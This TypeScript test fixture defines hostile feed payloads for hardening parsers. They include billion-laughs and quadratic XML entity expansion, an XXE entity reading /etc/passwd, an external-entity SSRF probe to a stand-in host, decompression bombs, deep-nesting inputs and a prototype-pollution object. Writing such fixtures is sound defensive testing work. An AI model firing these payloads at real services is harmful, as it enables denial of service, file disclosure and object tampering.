import { gzipSync } from 'node:zlib'

/** What a hostile publisher serves: how the beat reads it, and what it sends. */
export type Trap = {
  kind: 'rss' | 'xml' | 'json' | 'html' | 'csv'
  read?: object
  headers?: Record<string, string>
  body: string | Buffer
}

const rss = (head: string, title: string): string =>
  `<?xml version="1.0"?>${head}<rss version="2.0"><channel><title>t</title><item><guid>1</guid><title>${title}</title></item></channel></rss>`

const laughs = [...'bcdefghij'].map((name) => {
  const before = String.fromCharCode(name.charCodeAt(0) - 1)
  return `<!ENTITY ${name} "${`&${before};`.repeat(10)}">`
})

const nested = (open: string, close: string, times = 100_000): string =>
  open.repeat(times) + close.repeat(times)

/** What an external entity would fetch; the server of the traps puts its own address here. */
export const secret = 'http://secret.test/'

/** Payloads by name. */
export const traps: Readonly<Record<string, Trap>> = {
  'billion-laughs': { kind: 'rss', body: rss(`<!DOCTYPE rss [<!ENTITY a "ha">${laughs.join('')}]>`, '&j;') },
  'billion-laughs-xml': {
    kind: 'xml',
    read: { records: '/rss/channel/item' },
    body: rss(`<!DOCTYPE rss [<!ENTITY a "ha">${laughs.join('')}]>`, '&j;'),
  },
  quadratic: {
    kind: 'rss',
    body: rss(`<!DOCTYPE rss [<!ENTITY a "${'x'.repeat(100_000)}">]>`, '&a;'.repeat(100_000)),
  },
  'external-file': {
    kind: 'rss',
    body: rss('<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>', '&a;'),
  },
  'external-address': {
    kind: 'xml',
    read: { records: '/rss/channel/item' },
    body: rss(`<!DOCTYPE rss SYSTEM "${secret}" [<!ENTITY a SYSTEM "${secret}">]>`, '&a;'),
  },
  'nested-xml': { kind: 'xml', read: { records: '/a' }, body: nested('<a>', '</a>') },
  'nested-rss': { kind: 'rss', body: rss('', nested('<b>', '</b>')) },
  'nested-html': {
    kind: 'html',
    read: { rows: 'li', fields: { id: 'b' } },
    body: `<html><body>${nested('<div>', '</div>')}</body></html>`,
  },
  'nested-json': { kind: 'json', body: nested('[', ']') },
  'open-brackets-rss': { kind: 'rss', body: '<'.repeat(500_000) },
  'open-brackets-xml': { kind: 'xml', read: { records: '/a' }, body: `<a>${'<'.repeat(500_000)}` },
  'open-brackets-html': {
    kind: 'html',
    read: { rows: 'li', fields: { id: 'b' } },
    body: `<html>${'<'.repeat(500_000)}`,
  },
  'open-comments-html': {
    kind: 'html',
    read: { rows: 'li', fields: { id: 'b' } },
    body: `<html>${'<!--'.repeat(200_000)}`,
  },
  'many-attributes': {
    kind: 'xml',
    read: { records: '/a' },
    body: `<a ${Array.from({ length: 10_000 }, (_, n) => `a${n}="x"`).join(' ')}></a>`,
  },
  'two-hundred-doctypes': { kind: 'rss', body: '<!DOCTYPE a>'.repeat(200) + rss('', 'x') },
  'million-objects': { kind: 'json', body: `[${'{},'.repeat(4_000_000)}{}]` },
  'million-cells': { kind: 'csv', body: `id\n${'"",'.repeat(4_000_000)}` },
  gigabyte: {
    kind: 'json',
    headers: { 'content-encoding': 'gzip' },
    body: Buffer.concat(Array(1000).fill(gzipSync(Buffer.alloc(1_000_000)))),
  },
  'gigabyte-twice': {
    kind: 'json',
    headers: { 'content-encoding': 'gzip, gzip' },
    body: gzipSync(Buffer.concat(Array(1000).fill(gzipSync(Buffer.alloc(1_000_000))))),
  },
  'lying-type': { kind: 'rss', headers: { 'content-type': 'image/png' }, body: rss('', 'x') },
  'lying-charset': {
    kind: 'rss',
    headers: { 'content-type': 'text/xml; charset=utf-16' },
    body: rss('', 'x'),
  },
  'carried-over': {
    kind: 'json',
    read: { records: '/r', carry: { long: '/long' } },
    body: JSON.stringify({ long: 'x'.repeat(100_000), r: Array.from({ length: 5000 }, (_, id) => ({ id })) }),
  },
  prototype: {
    kind: 'json',
    body: '[{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}]',
  },
}
